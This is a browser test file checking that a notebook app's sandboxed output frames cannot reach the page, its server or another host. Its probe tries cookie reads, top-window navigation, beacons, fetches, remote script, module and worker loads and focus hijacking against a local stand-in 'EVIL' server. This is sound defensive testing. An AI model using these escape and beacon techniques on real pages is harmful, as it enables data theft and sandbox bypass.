// Checks that outputs are isolated: a probe in an output tries every known way out of its frame and
// reports the results.

import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import { readFile } from 'node:fs/promises';
import { listen } from './listen.mjs';
import { becomes, nightly } from './browser.mjs';
import {
    allParts,
    focused,
    forgive,
    frameFocused,
    lacks,
    openFar,
    page,
    ran,
    run,
    test,
    testWithoutPage,
} from './harness.mjs';

const isReal = Boolean(process.env.RATOON_BIN);

/**
 * Runs in the frame. `OWN` is the address of the Ratoon server, `EVIL` that of another one. Both
 * record every request that reaches them.
 */
async function probe(OWN, EVIL) {
    const report = {};
    const tell = (text) => (document.getElementById('report').textContent = text);
    const reads = {
        cookie: () => document.cookie,
        parentTitle: () => parent.document.title,
        parentLocation: () => parent.location.href,
        topLocation: () => top.location.href,
        topNavigation: () => ((top.location.href = `${EVIL}/top`), 'navigated'),
        frameElement: () => String(frameElement),
        opener: () => String(opener),
        localStorage: () => String(localStorage.length),
        sessionStorage: () => String(sessionStorage.length),
        indexedDB: () => typeof indexedDB.open('x'),
        serviceWorker: () => String(navigator.serviceWorker?.register(`${OWN}/assets/x.js`) && 'registered'),
        referrer: () => document.referrer,
        origin: () => self.origin,
        secretInAddress: () =>
            String(
                [document.baseURI, location.href, ...(location.ancestorOrigins ?? [])].some((text) =>
                    /token|#|\/n\//.test(text),
                ),
            ),
        windowOpen: () => String(window.open(`${EVIL}/open`)),
        beacon: () => (
            navigator.sendBeacon(`${OWN}/api/links`, 'x'),
            navigator.sendBeacon(`${EVIL}/beacon`, 'x'),
            'sent, if the policy let it'
        ),
        dialog: () => String(confirm('?')),
        cookieWrite: () => (document.cookie = 'x=1'),
        caches: () => String(typeof caches.keys),
        broadcast: () => String(new BroadcastChannel('x').name),
        parentStorage: () => String(parent.localStorage),
        parentFrames: () => String(parent.frames[0] === self),
        clipboard: () => String(navigator.clipboard ? typeof navigator.clipboard.readText : 'none'),
        download: () => {
            const link = Object.assign(document.createElement('a'), {
                href: URL.createObjectURL(new Blob(['x'])),
                download: 'x',
            });
            link.click();
            return 'clicked';
        },
        popup: () => {
            const link = Object.assign(document.createElement('a'), {
                href: `${EVIL}/popup`,
                target: '_blank',
            });
            link.click();
            return 'clicked';
        },
    };
    for (const [name, read] of Object.entries(reads)) {
        try {
            report[name] = read();
        } catch (error) {
            report[name] = error.name;
        }
    }
    const inTime = (name, make) =>
        Promise.race([
            new Promise((done) => make(done)).catch((error) => error.name),
            new Promise((done) => setTimeout(done, 1500, 'nothing came')),
        ]).then((got) => (report[name] = got));
    const element =
        (tag, more, to = document.body) =>
        (done) => {
            const one = Object.assign(document.createElement(tag), more);
            one.onload = () => done('loaded');
            one.onerror = () => done('refused');
            to.append(one);
        };
    const fetched = (url, init) => (done) =>
        fetch(url, init).then(
            () => done('fetched'),
            (error) => done(error.name),
        );
    const socket = (make) => (done) => {
        const one = make();
        one.onopen = () => done('open');
        one.onerror = () => done('refused');
    };
    await Promise.all([
        inTime('fetch', fetched(`${OWN}/api/links`, { credentials: 'include' })),
        inTime('fetchFar', fetched(`${EVIL}/fetch`, { mode: 'no-cors', keepalive: true })),
        inTime('xhr', (done) => {
            const one = new XMLHttpRequest();
            one.onload = () => done('loaded');
            one.onerror = () => done('refused');
            one.open('GET', `${EVIL}/xhr`);
            one.send();
        }),
        inTime('ownLibrary', fetched(`${OWN}/api/libraries/plotly`)),
        inTime('webTransport', (done) => {
            const one = new WebTransport(`${EVIL.replace('http', 'https')}/transport`);
            one.ready.then(
                () => done('open'),
                () => done('refused'),
            );
            one.closed.catch(() => {});
        }),
        inTime('sharedWorker', (done) => {
            const one = new SharedWorker(`${OWN}/assets/x.js`);
            one.onerror = () => done('refused');
        }),
        inTime('audio', (done) => {
            const one = new Audio(`${EVIL}/audio`);
            one.onloadeddata = () => done('loaded');
            one.onerror = () => done('refused');
        }),
        // The headless shell answers "default", which permits as little as "denied".
        inTime('notification', (done) =>
            Notification.requestPermission().then(
                (answer) => done(answer === 'granted' ? answer : 'not granted'),
                (error) => done(error.name),
            ),
        ),
        inTime('geolocation', (done) =>
            navigator.geolocation.getCurrentPosition(
                () => done('found'),
                () => done('refused'),
            ),
        ),
        inTime('clipboardRead', (done) =>
            navigator.clipboard.readText().then(
                () => done('read'),
                (error) => done(error.name),
            ),
        ),
        inTime(
            'webSocket',
            socket(() => new WebSocket(`${OWN.replace('http', 'ws')}/ws/main`)),
        ),
        inTime(
            'eventSource',
            socket(() => new EventSource(`${EVIL}/events`)),
        ),
        inTime('image', element('img', { src: `${EVIL}/image` })),
        inTime('ownImage', element('img', { src: `${OWN}/api/notebooks/main` })),
        inTime('script', element('script', { src: `${EVIL}/script` })),
        inTime('style', element('link', { rel: 'stylesheet', href: `${EVIL}/style` }, document.head)),
        inTime('frame', (done) =>
            element('iframe', { src: `${EVIL}/frame` })((what) =>
                done(what === 'loaded' ? 'an empty frame' : what),
            ),
        ),
        inTime('object', element('object', { data: `${EVIL}/object` })),
        inTime('module', (done) =>
            import(`${EVIL}/module`).then(
                () => done('imported'),
                (error) => done(error.name),
            ),
        ),
        inTime('worker', (done) => {
            const one = new Worker(
                URL.createObjectURL(
                    new Blob([
                        `fetch('${EVIL}/worker').then(() => postMessage('fetched'), () => postMessage('refused'))`,
                    ]),
                ),
            );
            one.onmessage = ({ data }) => done(data);
            one.onerror = () => done('refused');
        }),
    ]);
    const quiet = (tag, more, to = document.head) =>
        to.append(Object.assign(document.createElement(tag), more));
    quiet('style', {
        textContent: `@import url(${EVIL}/import); body { background: url(${EVIL}/background) } @font-face { font-family: x; src: url(${EVIL}/font) } * { font-family: x }`,
    });
    quiet('base', { href: `${EVIL}/` });
    for (const rel of ['prefetch', 'preload', 'preconnect', 'dns-prefetch', 'modulepreload'])
        quiet('link', { rel, href: `${EVIL}/${rel}`, as: 'script' });
    report.baseURI = document.baseURI.startsWith(EVIL) ? 'changed' : 'kept';
    await new Promise((done) => setTimeout(done, 300));
    tell(JSON.stringify(report));
    // A frame may navigate itself, but the page's policy allows no target. Navigation comes last,
    // because it removes the report.
    const form = Object.assign(document.createElement('form'), {
        action: `${OWN}/api/links`,
        method: 'post',
    });
    document.body.append(form);
    form.submit();
    setTimeout(() => quiet('meta', { httpEquiv: 'refresh', content: `0; url=${EVIL}/refresh` }), 1500);
    setTimeout(() => (location.href = `${EVIL}/away`), 2000);
}

/** The expected report: one line per attempt. */
const GOLDEN = new URL('isolation.golden.txt', import.meta.url);

/** Cells that run a script in their output: as HTML, and in the code of a widget. */
const OUTPUTS = {
    'an output': (/** @type {string} */ script) => {
        const html = `<div id="report"></div><script>${script}</script>`;
        return `from IPython.display import HTML\nHTML(${JSON.stringify(html)})`;
    },
    'the code of a widget': (/** @type {string} */ script) => {
        const code = `export default { render({ el }) { el.innerHTML = '<div id="report"></div>'; ${script} } }`;
        return `import anywidget\nclass Probe(anywidget.AnyWidget):\n    _esm = ${JSON.stringify(code)}\nProbe()`;
    },
};

for (const [name, cellOf] of Object.entries(OUTPUTS))
    testWithoutPage(
        `${name} reaches neither this page, nor this server, nor any other`,
        { skip: !isReal || (name !== 'an output' && lacks('anywidget')) },
        async (t) => {
            const heard = [];
            const evil = createServer((request, response) => (heard.push(request.url), response.end()));
            const elsewhere = `http://127.0.0.1:${await listen(evil)}`;
            t.after(() => evil.close());
            const { line, far: page } = await openFar(t);
            const own = new URL(page.url()).origin;
            const script = `(${probe})(${JSON.stringify(own)}, ${JSON.stringify(elsewhere)})`;
            await allParts(page);
            line.heard.length = 0;
            await run(cellOf(script), 'Shift+Enter', page);
            await ran(1, page);
            const report = page.frameLocator('iframe.frame').locator('#report:not(:empty)');
            await report.waitFor();
            const table = Object.entries(JSON.parse(await report.textContent()))
                .map(([name, got]) => `${name}: ${got}`)
                .sort()
                .join('\n');
            assert.equal(`${table}\n`, await readFile(GOLDEN, 'utf8'), 'the report equals the golden file');
            // The frame tried to navigate itself.
            await becomes(() => page.faults.some((fault) => /frame-src/.test(fault)), true);
            assert.deepEqual(heard, [], 'no request reached the other server');
            // The page itself asks for its cells' problems, its memory and the kept settings.
            const ofPage = /^\/assets\/|\/(lint|memory|settings)$/;
            assert.deepEqual(
                line.heard.filter((path) => !ofPage.test(path)),
                ['/frame/v1'],
                'only the request for the frame itself reached our server',
            );
            assert.equal(await page.locator('.cell').count(), 2, 'the notebook is unchanged');
            // The browser's error messages about these attempts are expected.
            forgive(
                page,
                /Content Security Policy|sandbox|permission|Permissions policy|transport|ermission|request to|ERR_|Ignored call|Blocked|Refused|Unsafe attempt|Failed to|violates|security|preload/i,
            );
        },
    );

test('a flood of heights from a frame does not block the page', nightly(), async () => {
    const flood = `let n = 0; const place = document.getElementById('content'); setInterval(() => { place.style.height = (100 + (n++ % 2 ? 1e7 : n)) + 'px' }, 1)`;
    await run(`from IPython.display import HTML\nHTML("<script>${flood}</script><p>flood</p>")`);
    await ran(1);
    await page.waitForFunction(() => document.querySelector('iframe.frame')?.clientHeight > 10);
    const { gap, tallest } = await page.evaluate(
        () =>
            new Promise((done) => {
                let [last, gap, tallest] = [performance.now(), 0, 0];
                const end = last + 2000;
                const beat = setInterval(() => {
                    const now = performance.now();
                    gap = Math.max(gap, now - last);
                    last = now;
                    tallest = Math.max(tallest, document.querySelector('iframe.frame').clientHeight);
                    if (now > end) clearInterval(beat), done({ gap, tallest });
                }, 5);
            }),
    );
    assert.ok(gap < 400, `${gap} ms`);
    assert.ok(tallest <= 4000, `${tallest} px`);
});

test('a frame can give back the focus, and cannot take it from elsewhere in the page', {
    skip: !isReal,
}, async () => {
    // Catches the port that the frame's own script sends with.
    const hostile = `let port, sent = 0; const send = MessagePort.prototype.postMessage;
        MessagePort.prototype.postMessage = function (data) { port = this; send.call(this, data); };
        setInterval(() => { port?.postMessage({ leave: true }); document.title = ++sent; }, 5)`;
    await run(`from IPython.display import HTML\nHTML("""<script>${hostile}</script><input>""")`);
    await ran(1);
    const frame = page.frameLocator('iframe.frame');
    const sent = () => frame.locator('body').evaluate(() => Number(document.title));
    const afterMore = async () => {
        const before = await sent();
        await becomes(async () => (await sent()) > before + 20, true);
    };
    await page.locator('.cell[data-fresh] .editor').click();
    await page.keyboard.type('x = 1');
    await afterMore();
    await page.keyboard.type('2');
    await focused([1, 'editor']);
    await becomes(() => page.locator('.cell').nth(1).locator('.cm-line').innerText(), 'x = 12');
    // It can only give back the focus that it has, to its own cell.
    await frame.locator('input').click();
    await focused([0, 'cell']);
    await frameFocused(frame, false);
    await page.keyboard.press('ArrowDown');
    await afterMore();
    await focused([1, 'cell']);
});

test('the frame of an imported cell does not give the focus that its script takes to the cell', {
    skip: !isReal,
}, async () => {
    const source = `<input><script>let sent = 0; setInterval(() => {
        document.querySelector('input').focus();
        document.querySelector('input').dispatchEvent(new KeyboardEvent('keydown', { key: 'Escape', bubbles: true }));
        document.title = ++sent;
    }, 5)</script>`;
    const cell = {
        cell_type: 'code',
        execution_count: 1,
        metadata: {},
        source: 'hostile()',
        outputs: [{ output_type: 'display_data', data: { 'text/html': source }, metadata: {} }],
    };
    const file = { nbformat: 4, nbformat_minor: 4, metadata: {}, cells: [cell] };
    const { origin } = new URL(page.url());
    const answer = await page.request.post(`${origin}/api/notebooks/import?name=hostile`, {
        data: file,
        headers: { origin },
    });
    assert.ok(answer.ok(), await answer.text());
    await page.goto(`${origin}/n/hostile`);
    await page.getByRole('button', { name: 'Show original output' }).click();
    const frame = page.frameLocator('iframe.frame');
    await focused([0, 'IFRAME']);
    const moves = await page.evaluateHandle(() => {
        const found = [];
        addEventListener('focusin', ({ target }) =>
            found.push(target instanceof Element && target.className),
        );
        return found;
    });
    const sent = () => frame.locator('body').evaluate(() => Number(document.title));
    const before = await sent();
    await becomes(async () => (await sent()) > before + 20, true);
    assert.deepEqual(await moves.jsonValue(), []);
});

test('the document of an output frame is sandboxed even when it is opened directly', {
    skip: !isReal,
}, async () => {
    const answer = await page.request.get(new URL('/frame/v1', page.url()).href);
    const policy = answer.headers()['content-security-policy'];
    assert.match(policy, /sandbox allow-scripts(;|$)/);
    assert.match(policy, /connect-src 'none'/);
    assert.ok((await readFile(new URL('../../web/frame.html', import.meta.url), 'utf8')).length > 0);
});
